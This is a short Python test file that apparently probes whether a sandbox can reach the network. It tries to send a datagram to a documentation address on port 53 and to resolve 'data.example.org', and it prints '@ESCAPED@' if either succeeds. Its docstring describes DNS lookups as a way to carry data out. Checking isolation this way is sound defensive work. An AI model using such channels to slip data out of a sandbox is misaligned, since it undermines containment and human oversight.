"""Ask for a name: the question itself carries data out.

class: reach the network
gain: escape
nbgrader: not_applicable = "the outer box has no network either"
"""

import socket

for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        with socket.socket(socket.AF_INET, kind) as line:
            line.sendto(b"data.example.org", ("192.0.2.53", 53))
            print("@ESCAPED@: a datagram left")
    except OSError:
        continue
try:
    socket.getaddrinfo("data.example.org", 80)
    print("@ESCAPED@: a name was looked up")
except OSError:
    pass
